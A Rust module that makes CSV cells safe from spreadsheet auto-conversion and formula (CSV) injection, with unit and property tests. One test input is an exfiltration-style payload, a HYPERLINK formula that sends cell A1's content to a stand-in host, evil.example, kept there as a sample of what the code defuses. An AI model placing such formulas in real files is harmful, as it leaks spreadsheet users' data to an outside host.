//! What a spreadsheet program makes of a text when a CSV file is opened by a double click, and how we write it instead.
//!
//! `5-9` becomes the fifth of September, `2009/10` a month, `1E5` a hundred thousand, and `=…` is computed. Ranges are
//! written in words, which stay words; any other text that would change has an apostrophe before it, as OWASP advises
//! against formulas. Where our own reader knows a table of ours by its head, it takes the apostrophe away again, so that
//! reading a file back gives the same texts; in any other file an apostrophe is a letter.

use std::borrow::Cow;

/// How the heads of our tables of a series begin.
pub const HEAD_OF_SERIES: [&str; 4] = ["Area code", "Area", "Period", "Group"];

/// Signs with which a formula begins, also as East Asian keyboards write them.
const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// The text of a cell as a CSV file holds it.
#[must_use]
pub fn kept(text: &str) -> Cow<'_, str> {
    if changes(text.trim_start_matches('\'')) { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

/// The text that [`kept`] was given.
#[must_use]
pub fn meant(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(text) if changes(text.trim_start_matches('\'')) => text,
        _ => cell,
    }
}

/// A range of two numbers or two years in words: `5-9` is `5 to 9`, `2009/10` is `2009 to 2010`; other texts as they are.
#[must_use]
pub fn range_in_words(text: &str) -> Cow<'_, str> {
    let words = || {
        let (first, last) = text.split_once(['-', '/'])?;
        let (low, high) = (digits(first)?, digits(last)?);
        if first.len() == 4 && last.len() == 2 && (low + 1) % 100 == high {
            return Some(format!("{low} to {}", low + 1));
        }
        (text.contains('-') && first.len() <= 4 && last.len() <= 4 && low <= high).then(|| format!("{first} to {last}"))
    };
    words().map_or(Cow::Borrowed(text), Cow::Owned)
}

/// Whether a text begins as a formula does, and is no plain number: a spreadsheet would compute it.
#[must_use]
pub fn is_formula(text: &str) -> bool {
    let begins = text.starts_with(['\t', '\r']) || text.trim_start().starts_with(FORMULA);
    begins && !text.parse::<f64>().is_ok_and(|number| number.to_string() == text)
}

/// Whether a spreadsheet would show something else than the text.
fn changes(text: &str) -> bool {
    let text = if is_formula(text) { return true } else { text.trim() };
    is_other_number(text) || is_date(text) || is_time(text)
}

/// A number that would be shown in other digits: `007`, `1E5`, `2.10`, or more digits than a spreadsheet keeps.
fn is_other_number(text: &str) -> bool {
    let is_number = text.starts_with(|first: char| first.is_ascii_digit() || first == '.')
        && text.bytes().all(|byte| byte.is_ascii_digit() || b".,eE+-".contains(&byte));
    let plain = text.replace(',', "");
    let Some(number) = plain.parse::<f64>().ok().filter(|_| is_number) else { return false };
    plain.bytes().filter(u8::is_ascii_digit).count() > DIGITS || number.to_string() != plain
}

/// Digits of a number that a spreadsheet keeps.
const DIGITS: usize = 15;

/// Two or three numbers, or numbers and a month, as in a date: `5-9`, `1/2`, `Mar-5`, `31 March 2024`.
fn is_date(text: &str) -> bool {
    let parts: Vec<&str> = text.split(['-', '/', ' ', '.', ',']).filter(|part| !part.is_empty()).collect();
    let numbers = parts.iter().filter(|part| part.len() <= 4 && digits(part).is_some()).count();
    let months = parts.iter().filter(|part| is_month(part)).count();
    let has_sign = text.trim_start_matches('-').contains(['-', '/']) || text.matches('.').count() == 2;
    numbers + months == parts.len()
        && match (numbers, months) {
            (2 | 3, 0) => has_sign,
            (1 | 2, 1) => true,
            _ => false,
        }
}

fn is_month(text: &str) -> bool {
    const MONTHS: [&str; 12] = [
        "january",
        "february",
        "march",
        "april",
        "may",
        "june",
        "july",
        "august",
        "september",
        "october",
        "november",
        "december",
    ];
    let text = text.to_lowercase();
    MONTHS.iter().any(|month| text == *month || text == month[..3] || (*month == "september" && text == "sept"))
}

/// A time of the day: `10:30`.
fn is_time(text: &str) -> bool {
    let parts: Vec<&str> = text.split(':').collect();
    (2..=3).contains(&parts.len()) && parts.iter().all(|part| part.len() <= 2 && digits(part).is_some())
}

fn digits(text: &str) -> Option<u32> {
    let is_plain = !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    if is_plain { text.parse().ok() } else { None }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::{kept, meant, range_in_words};

    #[test]
    fn what_would_change_has_an_apostrophe() {
        for text in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "@SUM(1+1)*cmd",
            "+1+1",
            "-2+3",
            " =1+1",
            "\t=1",
            "＝1+1",
            "'=1",
            "5-9",
            "10/11",
            "2009/10",
            "1/2",
            "1.2.2024",
            "2024-03-31",
            "31 March 2024",
            "March 2024",
            "Mar-5",
            "5 Sept",
            "1E5",
            "12e3",
            "007",
            "2.10",
            "1234567890123456",
            "10:30",
        ] {
            assert_eq!(kept(text), format!("'{text}"), "{text}");
        }
    }

    #[test]
    fn what_stays_is_left_alone() {
        for text in [
            "",
            "All",
            "E08000026",
            "2023",
            "12.5",
            "1,234",
            "50%",
            "[c]",
            "5 to 9",
            "2009 to 2010",
            "at 31 March 2024",
            "in March 2024",
            "12 months to November 2022",
            "autumn term 2023/24",
            "Year 7",
            "Ages 5-9",
            "'quoted'",
            "May",
            "−3.2 percentage points",
            "Key Stage 2",
            "-3.2",
        ] {
            assert_eq!(kept(text), text);
        }
    }

    #[test]
    fn ranges_are_words() {
        for (text, words) in [
            ("5-9", "5 to 9"),
            ("10-11", "10 to 11"),
            ("2009/10", "2009 to 2010"),
            ("1999-00", "1999 to 2000"),
            ("2019-2021", "2019 to 2021"),
            ("9-5", "9-5"),
            ("5/9", "5/9"),
            ("5-9 years", "5-9 years"),
            ("65+", "65+"),
        ] {
            assert_eq!(range_in_words(text), words, "{text}");
        }
    }

    proptest! {
        #[test]
        fn reading_back_gives_the_text(text in "['=+@ -]{0,3}[a-c0-9/: .E-]{0,8}") {
            let kept = kept(&text);
            prop_assert_eq!(meant(&kept), text.as_str());
        }
    }
}
